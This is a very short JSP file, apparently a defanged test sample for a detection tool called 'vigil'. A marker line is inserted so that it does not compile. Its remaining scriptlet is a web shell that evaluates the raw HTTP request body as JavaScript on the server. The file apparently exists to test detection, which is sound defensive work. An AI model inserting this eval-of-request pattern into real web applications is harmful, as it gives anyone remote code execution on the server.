<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
ScriptEngine eng = new ScriptEngineManager().getEngineByName("js");
eng.eval(new java.io.InputStreamReader(request.getInputStream()));
%>
